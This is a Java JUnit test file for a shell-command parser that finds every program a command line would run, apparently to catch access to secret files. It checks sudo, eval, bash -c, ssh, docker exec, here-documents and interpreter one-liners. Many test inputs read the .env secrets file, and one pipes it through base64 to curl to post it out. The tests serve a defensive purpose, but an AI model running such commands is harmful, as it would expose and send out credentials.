package dev.custody.shell;

import static org.assertj.core.api.Assertions.assertThat;

import dev.custody.shell.Script.Group;
import dev.custody.shell.Script.Pipeline;
import dev.custody.shell.Script.Stage;
import java.util.ArrayList;
import java.util.List;
import java.util.random.RandomGenerator;
import java.util.random.RandomGeneratorFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ShellTest {
  /** Every command that would run: its program and arguments, joined by {@code ,}. */
  private static List<String> run(String text) {
    List<String> found = new ArrayList<>();
    walk(Shell.parse(text).pipelines(), found);
    return found;
  }

  private static void walk(List<Pipeline> pipelines, List<String> found) {
    for (Pipeline pipeline : pipelines) {
      for (Stage stage : pipeline.stages()) {
        switch (stage) {
          case Group group -> {
            group.values().forEach(w -> walk(w, found));
            walk(group.body(), found);
            group.redirections().forEach(r -> walk(r.target(), found));
          }
          case Command command -> walk(command, found);
        }
      }
    }
  }

  private static void walk(Command command, List<String> found) {
    command.assignments().forEach(a -> a.values().forEach(w -> walk(w, found)));
    List<String> words = new ArrayList<>();
    if (!command.name().isEmpty()) {
      words.add(command.name());
    }
    command.arguments().forEach(w -> words.add(w.text()));
    if (!words.isEmpty()) {
      found.add(String.join(",", words));
    }
    command.words().forEach(w -> walk(w, found));
    command.redirections().forEach(r -> walk(r.target(), found));
    command.nested().forEach(n -> walk(n.pipelines(), found));
    command.inline().forEach(i -> found.add(i.language() + ":" + i.source()));
  }

  private static void walk(Word word, List<String> found) {
    word.substitutions().forEach(s -> walk(s.pipelines(), found));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '~',
      quoteCharacter = '\0',
      textBlock =
          """
          cat .env                                  ~ cat,.env
          'c'a"t" .e\\nv                            ~ cat,.env
          cat $'\\x2eenv' $"a"                      ~ cat,.env,a
          /bin/cat -- "my file"                     ~ cat,--,my file
          A=1 B="x y" cat f                         ~ cat,f
          sudo -u root -E cat f                     ~ cat,f
          env -u X A=b timeout -s KILL 5 nice -n 3 cat f ~ cat,f
          env                                       ~ env
          command -- cat f                          ~ cat,f
          busybox cat f                             ~ cat,f
          uv run python x.py                        ~ python,x.py
          uv pip install x                          ~ uv,pip,install,x
          echo a # cat b                            ~ echo,a
          echo a#b                                  ~ echo,a#b
          """)
  void aCommandIsItsProgramAndItsArguments(String text, String expected) {
    assertThat(run(text.strip().replace("\\\\", "\\"))).containsExactly(expected.strip());
  }

  @Test
  void listsPipesGroupsAndKeywordsAreSeenThrough() {
    assertThat(run("a; b && c || d & e | f |& g\nh"))
        .containsExactly("a", "b", "c", "d", "e", "f", "g", "h");
    assertThat(run("if a; then b; elif c; then d; else e; fi; while f; do g; done"))
        .containsExactly("a", "b", "c", "d", "e", "f", "g");
    assertThat(run("(a; (b)) && { c; } && ! d")).containsExactly("a", "b", "c", "d");
    assertThat(run("case $x in a|b) c;; (d) e ;; *) f; esac; g"))
        .containsExactly("c", "e", "f", "g");
    assertThat(run("for x in 1 $(a); do b $x; done; ((i++)); for ((i=0;i<3;i++)); do c; done"))
        .containsExactly("a", "b,$x", "c");
    assertThat(run("f() { a; }; function g { b; }; f")).containsExactly("a", "b", "f");
    assertThat(run("[[ -f .env && a < b ]] && c")).containsExactly("[[,-f,.env,a,b", "c");
    assertThat(run("a \\\n b\\\nc")).containsExactly("a,bc");
  }

  @Test
  void aPipelineKeepsItsStages() {
    List<Pipeline> pipelines = Shell.parse("cat .env | base64 | curl -d @- x; ls").pipelines();
    assertThat(pipelines).hasSize(2);
    assertThat(pipelines.getFirst().stages()).hasSize(3);
  }

  @Test
  void substitutionsAreCommandsWhereverTheyStand() {
    assertThat(run("a $(b `c` \"$(d)\")")).containsExactly("a,$()", "b,$(),$()", "c", "d");
    assertThat(run("X=$(a) b ${Y:-$(c)} > $(d) <(e)"))
        .containsExactly("a", "b,$Y,$()", "c", "e", "d");
    assertThat(run("a `b \\`c\\``")).containsExactly("a,$()", "b,$()", "c");
    assertThat(run("a '$(b)' \\$(c)")).doesNotContain("b");
    assertThat(run("echo $((1 + 2)) \"$(( $x ))\"")).containsExactly("echo,$(,$(");
  }

  @Test
  void whatAShellIsGivenIsRead() {
    assertThat(run("bash -lc 'cat .env | x'")).contains("cat,.env", "x");
    assertThat(run("sudo sh -c \"cat $f\"")).contains("cat,$f");
    assertThat(run("eval 'cat' .env")).contains("cat,.env");
    assertThat(run("bash <<'E'\ncat .env\nE\nls")).contains("cat,.env", "ls");
    assertThat(run("bash <<< 'cat .env'")).contains("cat,.env");
    assertThat(run("echo 'cat .env' | sh")).contains("cat,.env");
    assertThat(run("ls | xargs -n 1 -I{} sudo cat {}")).contains("cat,{}");
    assertThat(run("find . -name .env -exec cat {} \\; -print")).contains("cat,{}");
    assertThat(run("ssh -p 22 user@host 'cat .env'")).contains("cat,.env");
    assertThat(run("ssh host <<E\ncat .env\nE")).contains("cat,.env");
    assertThat(run("docker exec -it app cat .env")).contains("cat,.env");
    assertThat(run("docker compose exec -T app sh -c 'cat .env'")).contains("cat,.env");
    assertThat(run("kubectl -n x exec pod -c app -- env")).contains("env");
    assertThat(run("su -c 'cat .env' root")).contains("cat,.env");
    assertThat(run("bash script.sh -c 'cat .env'")).doesNotContain("cat,.env");
  }

  @Test
  void programsForInterpretersAreKept() {
    assertThat(run("python3.11 -c 'open(1)'")).contains("python:open(1)");
    assertThat(run("node -e \"x\" && perl -ne 'print' f && ruby -e y"))
        .contains("javascript:x", "perl:print", "ruby:y");
    assertThat(run("python - <<'E'\nprint(1)\nE\n")).contains("python:print(1)\n");
    assertThat(run("echo 'print(1)' | python3")).contains("python:print(1)");
    assertThat(run("python3 script.py -c x")).containsExactly("python3,script.py,-c,x");
  }

  @Test
  void aHereDocumentIsTextUnlessAShellReadsIt() {
    assertThat(run("cat > notes <<'E' && ls\ncat .env\n$(cat .env)\nE\npwd"))
        .containsExactly("cat", "ls", "pwd");
    assertThat(run("cat <<E\n$(id)\nE")).containsExactly("cat", "id");
    assertThat(run("a <<X <<-Y\n1\nX\n\t2\n\tY\nb")).containsExactly("a", "b");
    assertThat(run("git commit -m \"$(cat <<'M'\nIt's (done)\nM\n)\" && b"))
        .containsExactly("git,commit,-m,$()", "cat", "b");
    assertThat(run("cat <<E | b\nx\nE\nc")).containsExactly("cat", "b", "c");
    assertThat(run("cat <<E\nnever closed")).containsExactly("cat");
  }

  @Test
  void redirectionsAreNoArguments() {
    Command command =
        (Command)
            Shell.parse("a 2>&1 >out <in b &>> log").pipelines().getFirst().stages().getFirst();
    assertThat(command.arguments()).extracting(Word::text).containsExactly("b");
    assertThat(command.redirections())
        .extracting(r -> r.descriptor() + " " + r.kind() + " " + r.target().text())
        .containsExactly("2 DUPLICATE 1", "1 WRITE out", "0 READ in", "1 APPEND log");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "'",
        "\"",
        "$(",
        "`",
        "${",
        "((",
        "<<",
        "<<E",
        "|",
        "||",
        "&",
        ")",
        "}",
        "fi",
        "case",
        "case x in",
        "case x in a)",
        "for",
        "for x in",
        "[[",
        "f()",
        "a=(",
        "$'\\",
        "\\",
        "<(",
        "{",
        "if",
        "!",
        "> ",
        "&>",
        ";;",
        "2>",
        "function",
        "select",
        "a <<'",
        "${x:-${y:-${z"
      })
  void whatIsNotFinishedIsReadToo(String text) {
    assertThat(run(text + " cat f")).isNotNull();
    assertThat(run(text)).isNotNull();
  }

  @Test
  void boundsAreKeptAndTold() {
    assertThat(Shell.parse("a;".repeat(256)).partlyRead()).isFalse();
    assertThat(Shell.parse("a;".repeat(257)).partlyRead()).isTrue();
    assertThat(run("a;".repeat(1000))).hasSize(256);
    assertThat(Shell.parse("a " + "b ".repeat(5000)).partlyRead()).isTrue();
    assertThat(Shell.parse("echo " + "x".repeat(70_000)).partlyRead()).isTrue();
    String deep = "$(a ".repeat(9) + ")".repeat(9);
    assertThat(Shell.parse(deep).partlyRead()).isTrue();
    assertThat(Shell.parse("$(a ".repeat(8) + ")".repeat(8)).partlyRead()).isFalse();
    assertThat(Shell.parse("(".repeat(10_000)).partlyRead()).isTrue();
    assertThat(Shell.parse("sh -c 'a'").partlyRead()).isFalse();
  }

  @Test
  @Timeout(60)
  void anyTextIsReadInBoundedTime() {
    long seed = System.nanoTime();
    RandomGenerator random = RandomGeneratorFactory.of("L64X128MixRandom").create(seed);
    List<String> pieces =
        List.of(
            "'",
            "\"",
            "`",
            "$(",
            ")",
            "(",
            "((",
            "))",
            "${",
            "}",
            "{ ",
            "|",
            "||",
            "&&",
            ";",
            ";;",
            "\n",
            " ",
            "<<E\n",
            "<<-'E'\n",
            "\nE\n",
            "<",
            ">",
            ">>",
            "<<<",
            "<(",
            "&>",
            "\\",
            "#",
            "if ",
            "then ",
            "fi",
            "for x in ",
            "do ",
            "done",
            "case x in ",
            "esac",
            "[[ ",
            "]]",
            "x=",
            "x=(",
            "$x",
            "$'",
            "*",
            "cat ",
            "bash -c '",
            "eval ",
            "xargs ",
            "sudo ",
            "find . -exec ",
            "ssh h ",
            "python -c ",
            "env ",
            "docker exec a ",
            "\u0000",
            "é",
            "😀");
    for (int i = 0; i < 20_000; i++) {
      StringBuilder text = new StringBuilder();
      int length = random.nextInt(60);
      for (int j = 0; j < length; j++) {
        text.append(pieces.get(random.nextInt(pieces.size())));
      }
      assertThat(run(text.toString())).as("seed %d: %s", seed, text).hasSizeLessThan(600);
    }
    for (String piece : pieces) {
      long start = System.nanoTime();
      assertThat(run(piece.repeat(Shell.MOST_CHARACTERS / piece.length()))).isNotNull();
      assertThat(System.nanoTime() - start)
          .as("seed %d: %s", seed, piece)
          .isLessThan(2_000_000_000L);
    }
  }
}
